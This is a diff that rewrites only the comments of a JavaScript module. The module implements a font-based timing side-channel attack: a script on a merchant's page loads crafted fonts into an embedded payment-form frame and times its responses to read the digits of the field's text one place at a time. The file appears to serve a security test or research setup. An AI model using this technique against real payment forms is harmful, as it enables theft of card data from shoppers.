@@ -1,11 +1,11 @@
 /**
- * The attack of a script in a merchant's page that reads digits by time: it gives the form fonts whose substitution rules take long for
- * one digit at one place of a text, and looks which of ten keeps the form's frame from answering. `ATTACK` is a script for the page of a
- * test and makes `globalThis.oracle`; it knows nothing of a form but its public calls. No test is in this file.
+ * A timing attack by a script in a merchant's page: it gives the form fonts whose substitution rules take long for
+ * one digit at one place of a text, and measures which of ten fonts delays the answer of the form's frame. `ATTACK` is a script for the page of a
+ * test and defines `globalThis.oracle`; it uses only the form's public calls. This file contains no test.
  */
 
 /**
- * A way to have a text drawn in a font, and to hear from whoever drew it.
+ * Something that draws a text in a given font, and answers after that.
  * @typedef {object} Victim
  * @property {number} length of the text
  * @property {(font: { family: string, base64: string }) => Promise<unknown>} wear has the text drawn in this font
@@ -16,7 +16,7 @@
 
 /** Runs in the page, so it uses nothing of this module. */
 function make() {
-  /** Substituted for the digit: so many glyphs, each of which all rules are tried on. */
+  /** The digit is replaced by this number of glyphs, and all rules are tried on each. */
   const COPIES = 250;
   /** An option of the form has at most 20000 characters, and tables that take too long to check are refused by engines. */
   const RULES = 5500;
@@ -36,7 +36,7 @@ function make() {
   function substitutions(digit, place, length) {
     const any = coverage([SPACE, ...Array.from({ length: 10 }, (_, digit) => ZERO + digit)]);
     const target = coverage([ZERO + digit]);
-    // There only: so many glyphs before it and so many behind it have no text but ours.
+    // Only at this place: the rule requires this number of glyphs before and behind it, which only the text under attack has.
     const before = place;
     const behind = length - 1 - place;
     const head = 2 + 2 + 2 * before + 2 + 2 + 2 + 2 * behind + 2 + 4;
@@ -49,7 +49,7 @@ function make() {
     const set = [...words(RULES, Array(RULES).fill(2 + 2 * RULES)), ...rule];
     const dear = [...words(1, 8 + set.length, 1, 8), ...set, ...coverage([SLOW])];
 
-    // All dear lookups have the same table, which stands behind them.
+    // All expensive lookups share one table, which follows them.
     const kinds = [6, 2, ...Array(LOOKUPS).fill(5)];
     const tables = [context, many, dear];
     const lookupsAt = 2 + 2 * kinds.length;
@@ -163,7 +163,7 @@ function make() {
         const face = new FontFace(family, Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0)));
         document.fonts.add(await face.load());
         input.style.fontFamily = `"${family}"`;
-        // Laid out now, where an engine would wait for a picture of the page.
+        // Forces a layout now, because an engine may wait for the next paint.
         if (input.scrollWidth < 0) return;
         return ask();
       },
@@ -172,13 +172,13 @@ function make() {
     };
   }
 
-  /** A field of a form on this page, by all that a page may say of looks. @param {number} length of its text @returns {Victim} */
+  /** A field of a form on this page, with every option of an appearance. @param {number} length of its text @returns {Victim} */
   function form(length) {
     const form = /** @type {any} */ (document.querySelector('payment-form'));
     const parts = ['Input', 'Input:focus', 'Input:filled', 'Input:hover', 'Placeholder', 'Label', 'Checkbox', 'Error', 'Message', 'Button', 'Link', 'Title', 'Text'];
     return {
       length,
-      // The property alone is not answered; that leaves more of the calls that are.
+      // Setting the property has no answer, so more of the ten calls a second are left for calls with an answer.
       async wear({ family, base64 }) {
         form.appearance = {
           fonts: [{ family, src: `data:font/ttf;base64,${base64}` }],
@@ -199,7 +199,7 @@ export const ATTACK = `globalThis.oracle = (${make})();`;
 
 /** @typedef {ReturnType<typeof make>} Oracle */
 
-/** Longer than others by so much is a guess; less is noise. */
+/** A digit counts as guessed if its font took this much longer than the others; less is noise. */
 const LEAD_MS = 100;
 
 /** How many digits were read: those that were guessed with a lead, and are right. @param {Found[]} found @param {string} text */
